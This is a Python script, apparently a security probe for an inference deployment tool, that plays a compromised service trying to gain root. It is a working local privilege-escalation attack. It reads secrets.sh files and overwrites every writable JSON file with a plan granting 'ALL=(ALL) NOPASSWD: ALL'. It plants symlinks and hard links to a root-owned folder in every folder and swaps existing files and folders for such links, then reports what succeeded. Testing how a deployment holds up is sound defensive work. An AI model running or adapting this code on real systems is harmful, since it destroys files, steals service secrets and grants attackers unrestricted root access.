# Copyright (c) 2026 the ascend.inference contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a compromised service prepares so that a later run as root gives it root's rights; run with the service's user.

    take_root.py VICTIM DEPLOYMENT [FOLDER...]

Opens all files below DEPLOYMENT and each FOLDER, moves a plan of its own over each file of JSON, puts links to VICTIM, a folder of root, into
each folder, and replaces each entry by such a link. Prints as JSON what succeeded: {read (secrets of services), written, moved, planted
(folders), swapped}, the number of entries that it has seen, and limits, the rights of this process.
"""

import json
import os
import sys

VICTIM, DEPLOYMENT, *OTHERS = sys.argv[1:]
EVIL = json.dumps({"files": [{"path": f"{VICTIM}/evil", "content": "ALL=(ALL) NOPASSWD: ALL", "mode": "0440"}]})


def tried(action, *arguments):
    """Whether it succeeded."""
    try:
        action(*arguments)
    except OSError:
        return False
    return True


def opened(mode):
    def action(path):
        with open(path, mode):
            pass

    return action


def swapped(path):
    """Replace what is there by a link; the old one stays beside it."""
    os.rename(path, path + ".before")
    os.symlink(VICTIM, path)


def linked(folder):
    """New names: a folder, its file, and a second name of root's file."""
    os.symlink(VICTIM, os.path.join(folder, "planted"))
    os.symlink(os.path.join(VICTIM, "secret"), os.path.join(folder, "planted.log"))
    tried(os.link, os.path.join(VICTIM, "open"), os.path.join(folder, "planted.hard"))


def moved(path):
    """Put an own plan over a file: from a folder of the same file system, if there is one."""
    for folder in [*OWN, "/tmp"]:
        own = os.path.join(folder, "plan.evil")
        if tried(opened("w"), own):
            with open(own, "w") as stream:
                stream.write(EVIL)
            os.rename(own, path)
            return
    raise PermissionError(path)


def limits():
    """Rights of this process, as the kernel names them."""
    with open("/proc/self/status") as stream:
        fields = dict(line.rstrip("\n").split(":\t", 1) for line in stream if ":\t" in line)
    return {name: fields[name].strip() for name in ("CapEff", "CapBnd", "NoNewPrivs")} | {"uid": os.getuid()}


entries = []  # all below, the deepest first
for top in [DEPLOYMENT, *OTHERS]:
    for folder, folders, files in os.walk(top, topdown=False):
        entries += [os.path.join(folder, name) for name in files + folders]
    entries.append(top)
directories = [path for path in entries if os.path.isdir(path) and not os.path.islink(path)]
regular = [path for path in entries if os.path.isfile(path) and not os.path.islink(path)]
OWN = [path for path in directories if os.access(path, os.W_OK)]
print(
    json.dumps(
        {
            "seen": len(entries),
            "read": [path for path in regular if path.endswith("secrets.sh") and tried(opened("r"), path)],
            "written": [path for path in regular if tried(opened("a"), path)],
            "moved": [path for path in regular if path.endswith(".json") and tried(moved, path)],
            "planted": [path for path in directories if tried(linked, path)],
            "swapped": [path for path in entries if tried(swapped, path)],
            "limits": limits(),
        }
    )
)
